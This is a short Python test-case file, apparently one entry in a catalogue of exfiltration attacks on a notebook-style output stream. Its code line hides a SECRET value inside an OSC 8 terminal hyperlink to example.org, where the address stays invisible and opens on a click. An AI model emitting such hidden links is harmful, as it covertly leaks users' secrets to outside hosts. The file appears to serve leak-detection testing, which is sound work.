"""Attack 042: terminal link"""

IDEA = "A terminal hyperlink: its address shows nowhere and opens on a click."
SOURCE = "OSC 8 escape sequences"
WAY = "iopub/stream/text"
CODE = r"""
print("\x1b]8;;https://example.org/" + SECRET + "\x1b\\click\x1b]8;;\x1b\\")
"""
ABSENT = ["SECRET"]
